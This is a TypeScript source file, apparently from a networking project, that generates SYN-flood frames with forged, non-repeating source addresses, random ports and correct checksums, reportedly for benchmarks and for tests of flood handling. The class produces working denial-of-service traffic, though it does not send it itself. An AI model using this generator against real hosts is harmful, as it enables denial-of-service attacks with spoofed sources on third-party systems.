// A flood of SYNs from forged addresses, each another one, to one port of one host: as many as wanted, fast.
// Apart from the frame builder because millions are made: a frame only has its addresses, ports and sums patched. For
// the benchmark and for the tests of what a flood must not change.
// Always holds: the same seed gives the same frames; no address comes twice in 3.5 thousand millions; none is one that
// cannot be a sender, nor of 10.0.0.0/8, where those are that are flooded; every checksum is right.

import { ethernet, ipv4, tcp } from "../../examples/frame.js";

const IP = 14;
const TCP = IP + 20;
const FRAME_SIZE = 60; // without the check sequence: the shortest there is
const SYN = 0x02;

export interface FloodOptions {
  readonly target: string;
  readonly port: number;
  readonly seed?: number;
}

export class SynFlood {
  private readonly frame: Uint8Array;
  private readonly view: DataView;
  private readonly headerSum: number;
  private readonly segmentSum: number;
  private readonly seed: number;
  private index = 0;

  constructor({ target, port, seed = 1 }: FloodOptions) {
    this.seed = Math.imul(seed, 0x9e3779b1) | 1;
    const segment = tcp({ sport: 0, dport: port, flags: SYN, checksum: 0 });
    this.frame = ethernet(
      { pad: FRAME_SIZE },
      ipv4({ src: "0.0.0.0", dst: target, ttl: 0, checksum: 0 }, segment),
    );
    this.view = new DataView(this.frame.buffer, this.frame.byteOffset);
    this.headerSum = this.words(IP, TCP);
    // The pseudo header: addresses, protocol, length.
    this.segmentSum = this.words(IP + 12, TCP + 20) + 6 + 20;
  }

  private words(from: number, to: number): number {
    let sum = 0;
    for (let at = from; at < to; at += 2) sum += this.view.getUint16(at);
    return sum;
  }

  /** The next frame; valid until the next call. */
  next(): Uint8Array {
    const { view } = this;
    let source = 0;
    do source = mixed(this.index++ ^ this.seed);
    while (!canSend(source >>> 24));
    const noise = mixed(source ^ 0x5bd1e995);
    const sourcePort = 1024 + (noise % 64000);
    const ttl = 40 + ((noise >>> 24) % 24);
    view.setUint32(IP + 12, source);
    view.setUint8(IP + 8, ttl);
    view.setUint16(IP + 4, noise & 0xffff);
    view.setUint16(IP + 10, folded(this.headerSum + half(source) + (ttl << 8) + (noise & 0xffff)));
    view.setUint16(TCP, sourcePort);
    view.setUint32(TCP + 4, noise);
    view.setUint16(TCP + 16, folded(this.segmentSum + half(source) + sourcePort + half(noise)));
    return this.frame;
  }
}

/** A number of 32 bits to another one, each to one of its own. */
function mixed(value: number): number {
  let x = value | 0;
  x = Math.imul(x ^ (x >>> 16), 0x21f0aaad);
  x = Math.imul(x ^ (x >>> 15), 0x735a2d97);
  return (x ^ (x >>> 15)) >>> 0;
}

function canSend(first: number): boolean {
  return first !== 0 && first !== 10 && first !== 127 && first < 224;
}

function half(word: number): number {
  return (word >>> 16) + (word & 0xffff);
}

function folded(sum: number): number {
  const once = (sum & 0xffff) + (sum >>> 16);
  return ~((once & 0xffff) + (once >>> 16)) & 0xffff;
}
